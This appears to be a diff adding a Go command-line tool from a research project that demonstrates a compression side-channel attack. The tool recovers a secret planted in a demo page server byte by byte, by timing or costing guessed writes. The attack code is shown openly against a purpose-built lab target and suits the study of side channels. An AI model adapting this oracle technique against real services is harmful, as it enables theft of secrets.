@@ -1,0 +1,180 @@
+// Command zippages runs the remote compression-time oracle attack
+// against a zipserverd page store (internal/zipchannel.RecoverPageSecret
+// over HTTP). The attacker's entire view of the victim is PUT
+// /v1/pages/{id} on its own region of a shared page plus the
+// X-Page-Steps cost header on the response — no cache probes, no reads
+// of victim memory. Byte by byte, the guess whose store cost is minimal
+// is the one the compressor folded into a back-reference from the
+// co-located secret.
+//
+// Against a server started as
+//
+//	zipserverd -pagestore -pagestore-plant 'victim=64:key=HUNTER2SECRET000'
+//
+// recover the 16 planted secret bytes with
+//
+//	zippages -server http://127.0.0.1:8321 -page victim -prefix key= -len 16
+//
+// A noisy timer is simulated client-side with -timer-faults
+// 'attacker.oracle.timer=latency:0.25:2000'; median filtering over
+// -samples readings per query defeats it (the PR 6 amplification).
+package main
+
+import (
+	"encoding/json"
+	"flag"
+	"fmt"
+	"io"
+	"net/http"
+	"os"
+	"strconv"
+	"strings"
+
+	"github.com/zipchannel/zipchannel/internal/fault"
+	"github.com/zipchannel/zipchannel/internal/obs"
+	"github.com/zipchannel/zipchannel/internal/zipchannel"
+)
+
+func main() {
+	if err := run(os.Stdout, os.Args[1:]); err != nil {
+		fmt.Fprintln(os.Stderr, "zippages:", err)
+		os.Exit(1)
+	}
+}
+
+// httpOracle implements zipchannel.PageOracle against a remote
+// zipserverd: the attack code is identical local and remote, only the
+// transport differs.
+type httpOracle struct {
+	client *http.Client
+	base   string
+	page   string
+}
+
+// Query PUTs the guess into the attacker region and reads the store's
+// cost off X-Page-Steps.
+func (o *httpOracle) Query(guess []byte) (int64, error) {
+	req, err := http.NewRequest(http.MethodPut,
+		o.base+"/v1/pages/"+o.page, strings.NewReader(string(guess)))
+	if err != nil {
+		return 0, err
+	}
+	resp, err := o.client.Do(req)
+	if err != nil {
+		return 0, err
+	}
+	body, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		return 0, fmt.Errorf("PUT %s: status %d: %s", o.page, resp.StatusCode, firstLine(body))
+	}
+	steps, err := strconv.ParseInt(resp.Header.Get("X-Page-Steps"), 10, 64)
+	if err != nil {
+		return 0, fmt.Errorf("PUT %s: bad X-Page-Steps header: %w", o.page, err)
+	}
+	return steps, nil
+}
+
+// AttackerLen sizes the attacker-writable region: GET returns exactly
+// those bytes for a planted page.
+func (o *httpOracle) AttackerLen() (int, error) {
+	resp, err := o.client.Get(o.base + "/v1/pages/" + o.page)
+	if err != nil {
+		return 0, err
+	}
+	body, err := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if err != nil {
+		return 0, err
+	}
+	if resp.StatusCode != http.StatusOK {
+		return 0, fmt.Errorf("GET %s: status %d: %s", o.page, resp.StatusCode, firstLine(body))
+	}
+	return len(body), nil
+}
+
+func firstLine(b []byte) string {
+	s := strings.TrimSpace(string(b))
+	if i := strings.IndexByte(s, '\n'); i >= 0 {
+		s = s[:i]
+	}
+	return s
+}
+
+// attackReport is the -format json output shape.
+type attackReport struct {
+	Recovered      string  `json:"recovered"`
+	Queries        int     `json:"queries"`
+	QueriesPerByte float64 `json:"queries_per_byte"`
+	NoisyReads     int     `json:"noisy_reads"`
+	OracleSteps    int64   `json:"oracle_steps"`
+}
+
+func run(w io.Writer, args []string) error {
+	fs := flag.NewFlagSet("zippages", flag.ContinueOnError)
+	var (
+		server    = fs.String("server", "http://127.0.0.1:8321", "zipserverd base URL (must run with -pagestore)")
+		page      = fs.String("page", "victim", "planted page id to attack")
+		prefix    = fs.String("prefix", "key=", "known plaintext preceding the secret")
+		secretLen = fs.Int("len", 16, "secret bytes to recover")
+		charset   = fs.String("charset", zipchannel.DefaultPageCharset, "candidate alphabet")
+		samples   = fs.Int("samples", 0, "timer readings per query under a noisy timer (0 = attacker default)")
+		tfaults   = fs.String("timer-faults", "", "simulated attacker-side timer noise, e.g. 'attacker.oracle.timer=latency:0.25:2000'")
+		fseed     = fs.Int64("fault-seed", 1, "seed for the simulated timer noise")
+		format    = fs.String("format", "text", "output format: text or json")
+	)
+	if err := fs.Parse(args); err != nil {
+		return err
+	}
+
+	var freg *fault.Registry
+	if *tfaults != "" {
+		freg = fault.NewRegistry(*fseed)
+		if err := freg.ArmAll(*tfaults); err != nil {
+			return err
+		}
+	}
+	reg := obs.NewRegistry()
+	oracle := &httpOracle{
+		client: &http.Client{},
+		base:   strings.TrimRight(*server, "/"),
+		page:   *page,
+	}
+	res, err := zipchannel.RecoverPageSecret(oracle, zipchannel.PageAttackConfig{
+		KnownPrefix:  *prefix,
+		SecretLen:    *secretLen,
+		Charset:      *charset,
+		Obs:          reg,
+		Faults:       freg,
+		TimerSamples: *samples,
+	})
+	if err != nil {
+		return err
+	}
+
+	switch *format {
+	case "json":
+		b, err := json.MarshalIndent(attackReport{
+			Recovered:      string(res.Recovered),
+			Queries:        res.Queries,
+			QueriesPerByte: res.QueriesPerByte(),
+			NoisyReads:     res.NoisyReads,
+			OracleSteps:    res.OracleSteps,
+		}, "", "  ")
+		if err != nil {
+			return err
+		}
+		fmt.Fprintln(w, string(b))
+	case "text":
+		fmt.Fprintf(w, "zippages: recovered %d bytes from %s via %d oracle queries (%.1f/byte)\n",
+			len(res.Recovered), *page, res.Queries, res.QueriesPerByte())
+		if res.NoisyReads > 0 {
+			fmt.Fprintf(w, "  noisy timer: %d jittered readings beaten by median-of-%d filtering\n",
+				res.NoisyReads, *samples)
+		}
+		fmt.Fprintf(w, "  secret: %s%s\n", *prefix, res.Recovered)
+	default:
+		return fmt.Errorf("unknown -format %q (have text, json)", *format)
+	}
+	return nil
+}
